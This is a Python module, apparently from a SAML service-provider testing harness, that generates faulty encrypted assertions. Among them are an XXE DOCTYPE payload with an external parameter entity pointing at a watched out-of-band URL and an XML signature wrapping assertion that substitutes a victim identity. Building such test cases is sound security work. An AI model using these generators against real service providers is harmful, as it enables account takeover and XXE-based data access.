"""ENC: encrypted assertions."""
from __future__ import annotations

import copy
from typing import Any, Callable

from lxml import etree

from ..builder import DS, SAML, q
from . import Fault, FaultContext, SigningOptions, register, register_factory
from ._common import _asig, _assertion, _attr_el, _drop_sig, _iter_tag, _pick_attr, _victimize


@register_factory("encrypted-assertion", "Assertion encrypted to the SP's encryption cert (EncryptedAssertion)",
                  ("POS-05", "ENC-06", "SAML Core 6.2", "SAML2Int SDP-ALG01"), block="aes256-gcm", key_transport="rsa-oaep")
def _encrypted(block: str, key_transport: str) -> Fault:
    def signing(s: SigningOptions, ctx: FaultContext) -> None:
        s.encrypt = True
        s.encryption = {**s.encryption, "block": block, "key_transport": key_transport}

    return Fault("", "", signing=signing)


@register_factory("encrypted-unsigned", "EncryptedAssertion whose inner Assertion is unsigned, Response unsigned",
                  ("ENC-02",), block="aes256-gcm")
def _enc_unsigned(block: str) -> Fault:
    def signing(s: SigningOptions, ctx: FaultContext) -> None:
        s.encrypt, s.sign_assertion, s.sign_response = True, False, False
        s.encryption = {**s.encryption, "block": block}

    return Fault("", "", signing=signing)


# ============================================================================= more catalogue faults
@register_factory("encrypted-wrong-key", "EncryptedAssertion encrypted to an attacker certificate (the SP cannot decrypt)",
                  ("ENC-04",), block="aes256-gcm")
def _enc_wrong(block: str) -> Fault:
    def signing(s: SigningOptions, ctx: FaultContext) -> None:
        s.encrypt = True
        s.encryption = {**s.encryption, "block": block, "cert": ctx.idp.attacker_key}

    return Fault("", "", signing=signing)


def _with_encryption(**enc: Any) -> Callable[[SigningOptions, FaultContext], None]:
    def signing(s: SigningOptions, ctx: FaultContext) -> None:
        s.encrypt = True
        s.encryption = {**s.encryption, **enc}

    return signing


def _enc_data(root: etree._Element) -> etree._Element:
    found = root.find(f"{q(SAML, 'EncryptedAssertion')}/{{http://www.w3.org/2001/04/xmlenc#}}EncryptedData")
    if found is None:
        raise ValueError("no EncryptedAssertion (the SP needs an encryption certificate)")
    return found


_XENC = "http://www.w3.org/2001/04/xmlenc#"


@register_factory("encrypted-type", "EncryptedData Type attribute changed (\"...#Content\") or removed (\"\")",
                  ("ENC-08",), type="http://www.w3.org/2001/04/xmlenc#Content")
def _enc_type(type: str) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        ed = _enc_data(root)
        if type:
            ed.set("Type", type)
        else:
            ed.attrib.pop("Type", None)

    return Fault("", "", signing=_with_encryption(), encrypted=signed)


@register_factory("encrypted-missing", "EncryptedData without its KeyInfo (part=keyinfo) or its EncryptionMethod (part=method), "
                  "content encrypted with `block`", ("ENC-09",), part="keyinfo", block="aes256-gcm")
def _enc_missing(part: str, block: str) -> Fault:
    if part not in ("keyinfo", "method"):
        raise ValueError("part must be keyinfo or method")

    def signed(root: etree._Element, ctx: FaultContext) -> None:
        ed = _enc_data(root)
        tag = q(DS, "KeyInfo") if part == "keyinfo" else q(_XENC, "EncryptionMethod")
        el = next(c for c in ed if c.tag == tag)
        ed.remove(el)

    return Fault("", "", signing=_with_encryption(block=block), encrypted=signed)


def _second_enc_key(root: etree._Element, ctx: FaultContext) -> None:
    ed = _enc_data(root)
    ek = _iter_tag(ed, q(_XENC, "EncryptedKey"))[0]
    bogus = copy.deepcopy(ek)
    for cv in _iter_tag(bogus, q(_XENC, "CipherValue")):
        import base64

        raw = bytearray(base64.b64decode("".join((cv.text or "").split())))
        raw[:8] = b"\0" * 8
        cv.text = base64.b64encode(bytes(raw)).decode()
    ek.addprevious(bogus)


register(Fault("encrypted-two-keys", "Two EncryptedKey elements: a bogus one first, the one that decrypts second",
               ("ENC-05",), signing=_with_encryption(), encrypted=_second_enc_key))


@register_factory("encrypted-corrupt", "One byte of the EncryptedData ciphertext flipped (at offset; -1 = last byte)",
                  ("ENC-07",), block="aes128-cbc", offset=-1)
def _enc_corrupt(block: str, offset: int) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        import base64

        ed = _enc_data(root)
        cv = next(c for c in ed if c.tag == q(_XENC, "CipherData"))[0]
        raw = bytearray(base64.b64decode("".join((cv.text or "").split())))
        raw[int(offset)] ^= 0x01
        cv.text = base64.b64encode(bytes(raw)).decode()

    return Fault("", "", signing=_with_encryption(block=block), encrypted=signed)


@register_factory("encrypted-dtd", "The encrypted plaintext starts with a DOCTYPE: an internal entity declared "
                  "(entity=internal), or an external parameter entity at a loopback URL the IdP watches, referenced "
                  "in the internal subset (entity=external: a fetch by the SP is recorded); the signed Assertion "
                  "itself unchanged", ("ENC-10", "XML-02"), entity="internal")
def _enc_dtd(entity: str) -> Fault:
    if entity not in ("internal", "external"):
        raise ValueError("entity must be internal or external")

    def signing(s: SigningOptions, ctx: FaultContext) -> None:
        if entity == "internal":
            prefix = b'<!DOCTYPE saml:Assertion [<!ENTITY x "y">]>'
        else:
            import secrets

            url = ctx.idp.oob_url(ctx.notes.setdefault("oob_token", secrets.token_hex(8)), "xxe")
            ctx.notes["oob_url"] = url
            prefix = f'<!DOCTYPE saml:Assertion [<!ENTITY % xxe SYSTEM "{url}"> %xxe;]>'.encode()
        _with_encryption(plaintext_prefix=prefix)(s, ctx)

    return Fault("", "", signing=signing)


@register_factory("encrypted-attribute", "One Attribute sent as EncryptedAttribute (to the SP's encryption cert)",
                  ("ENC-11", "SAML Core 2.7.3.2"), name=None)
def _enc_attr(name: str | None) -> Fault:
    def tree(root: etree._Element, ctx: FaultContext) -> None:
        from ..encryption import encrypt_element

        sp = ctx.sp
        cert = (ctx.signing.encryption or {}).get("cert") or (sp.encryption_certs[0] if sp and sp.encryption_certs else None)
        if cert is None:
            raise ValueError("encrypted-attribute needs the SP's encryption certificate")
        attr = _attr_el(root, _pick_attr(ctx.spec, name))
        wrapper = etree.Element(q(SAML, "EncryptedAttribute"))
        attr.addprevious(wrapper)
        wrapper.append(attr)
        encrypt_element(attr, cert)

    return Fault("", "", tree=tree)


# ============================================================================= batch: signatures borrowed from other signed documents
@register_factory("encrypted-xsw",
                  "Inside the EncryptedAssertion, a wrapped assertion: the signed original edited in place (victim) with an "
                  "unsigned clean copy in ds:Object of its Signature (XSW8 shape), then encrypted; Response signed",
                  ("ENC-03",), victim="victim@example.com")
def _enc_xsw(victim: str) -> Fault:
    def signing(s: SigningOptions, ctx: FaultContext) -> None:
        s.sign_assertion = True
        s.encrypt = False  # this fault encrypts itself, after wrapping
        ctx.notes["encrypt_after_wrap"] = True

    def encrypted(root: etree._Element, ctx: FaultContext) -> None:
        from ..encryption import encrypt_assertions

        a = _assertion(root)
        original = _drop_sig(copy.deepcopy(a))
        _victimize(a, victim)
        etree.SubElement(_asig(root), q(DS, "Object")).append(original)
        encrypt_assertions(root, ctx)

    return Fault("", "", signing=signing, encrypted=encrypted)


# ============================================================================= batch: remaining cheap catalogue shapes
